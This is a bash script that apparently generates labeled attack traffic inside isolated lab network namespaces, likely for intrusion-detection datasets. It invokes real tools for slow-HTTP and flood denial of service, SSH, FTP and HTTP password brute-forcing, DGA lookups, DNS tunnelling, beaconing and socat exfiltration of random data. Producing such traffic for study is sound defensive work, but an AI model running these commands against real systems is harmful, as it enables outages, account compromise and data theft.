# SPDX-License-Identifier: BSD-2-Clause
# shellcheck shell=bash
# Attacks over whole connections, made by real tools. kind_NAME makes it; see capture.sh.

kind_slowloris() { slow_http -H -i 3 -x 24 -p 3; }
kind_slow_post() { slow_http -B -i 3 -s 8192 -t POST -x 10 -p 3; }
kind_slow_read() { slow_http -X -w 16 -y 32 -n 3 -z 8 -k 2; }

slow_http() {
	local rate
	pick rate 15 60
	asked "$rate" connections
	wicked
	record
	LONGEST=24 attacker slowhttptest "$@" -c 300 -r "$rate" -l 18 -v 0 -u "$URL/page"
}

# Whole requests, each over a connection of its own, as many as the server bears (or, thin, not quite).
kind_http_flood_ab() {
	asked - connections
	wicked
	record
	attacker ab -q -t 10 -n 2500 -c "$(flood_at_once)" "$URL/"
}

kind_http_flood_wrk() {
	asked - connections
	wicked
	record
	attacker wrk -t 1 -c "$(flood_at_once)" -d 3 -H 'Connection: close' "$URL/"
}

kind_http_flood_h2load() {
	local rate
	pick rate 150 500
	asked "$rate" connections
	wicked
	record
	attacker h2load --h1 -t 1 -r "$rate" -c $((rate * 8)) -n $((rate * 8)) -T 10 -N 10 "$URL/?x"
}

flood_at_once() { [[ $VARIANT == thin ]] && echo 2 || echo 40; }

words() { printf 'guess%d\n' {1..400} >words; }

kind_brute_ssh_medusa() { brute_ssh medusa -h "$TARGET" -u root -P words -M ssh -t 8; }
kind_brute_ssh_ncrack() { brute_ssh ncrack --user root -P words -g cl=8,CL=12 "ssh://$TARGET:22"; }

# A guess for each connection, as careful servers have it. These tools are told how many to try at once, not how fast.
brute_ssh() {
	asked - connections
	ssh_serve 'MaxAuthTries 1' 'PasswordAuthentication yes' 'KbdInteractiveAuthentication no'
	words
	wicked
	record
	LONGEST=36 attacker "$@"
}

kind_brute_ftp_hydra() { brute_ftp hydra -I -l root -P words -t 12 -W 1 "ftp://$(bracketed "$TARGET")"; }
kind_brute_ftp_medusa() { brute_ftp medusa -h "$TARGET" -u root -P words -M ftp -t 12; }

brute_ftp() {
	asked - connections
	mkdir -p empty
	printf '%s\n' listen_ipv6=YES background=NO anonymous_enable=NO local_enable=YES max_login_fails=1 delay_failed_login=0 \
		"secure_chroot_dir=$PWD/empty" pam_service_name=lab seccomp_sandbox=NO >vsftpd.conf
	ns_start server vsftpd.log vsftpd "$PWD/vsftpd.conf"
	wait_for 10 in_ns server ss -Hltn 'sport = :21'
	words
	wicked
	record
	LONGEST=36 attacker "$@"
}

kind_brute_http_hydra() { brute_http hydra -I -l admin -P words -t 12 -W 1 -s "$HTTP_PORT" "$(bracketed "$TARGET")" http-get /private/; }
kind_brute_http_medusa() { brute_http medusa -h "$TARGET" -n "$HTTP_PORT" -u admin -P words -M http -m DIR:private/ -t 12; }

brute_http() {
	asked - connections
	words
	wicked
	record
	LONGEST=22 attacker "$@"
}

# Malware that looks for its master under names that it makes up, most of which do not exist.
kind_dga() {
	wicked
	record
	crowd 300 18 dga_ask
}

dga_ask() {
	local name
	name=$(printf '%s-%s' "$SEED" "$1" | sha256sum | tr -dc a-z0-9 | head -c $((8 + $1 % 17)))
	attacker dig "@$TARGET" -b "$(at 201 "$ATTACKER")" +short +tries=1 +time=1 "$name.test"
}

# A connection inside of look-ups, through the resolver to whoever answers for the tunnel's names.
kind_dns_tunnel() {
	ns_start server sink.log socat -u TCP4-LISTEN:4444,bind=127.0.0.1,fork,reuseaddr,backlog=100 /dev/null
	printf '%s\n' "listen = 127.0.0.1" "port = 5354" "user = root" "chroot = $PWD" "domain = tunnel.test" \
		"resources = sink:127.0.0.1:4444" >dns2tcpd.conf
	ns_start server dns2tcpd.log dns2tcpd -F -d 1 -f "$PWD/dns2tcpd.conf"
	wait_for 10 in_ns server ss -Hlun 'sport = :5354'
	head -c 20000 /dev/urandom >loot
	wicked
	record
	LONGEST=12 crowd 240 10 tunnel
}

tunnel() {
	head -c $((500 + $1 % 13 * 400)) loot | attacker dns2tcpc -c -z tunnel.test -r sink -l - "$TARGET" >/dev/null
}

# Programs of an intruder that call home, each at its own pace.
kind_beacon() {
	wicked
	record
	crowd 240 14 beacon_call
}

beacon_call() {
	attacker curl --silent --output /dev/null --max-time 10 --interface "$(at 201 $(($1 % 12 + 1)))" --data "id=$1" "$URL/page"
}

# Files that leave in pieces.
kind_exfiltration() {
	ns_start server sink.log socat -u "TCP6-LISTEN:4444,ipv6only=0,fork,reuseaddr,backlog=100" /dev/null
	wait_for 10 in_ns server ss -Hltn 'sport = :4444'
	head -c 400000 /dev/urandom >loot
	wicked
	record
	crowd 220 12 exfiltrate
}

exfiltrate() {
	head -c $((20000 + $1 % 13 * 25000)) loot |
		attacker socat -u - "TCP:$(bracketed "$TARGET"):4444,bind=$(bracketed "$(at 201 $(($1 % 3 + 1)))")"
}
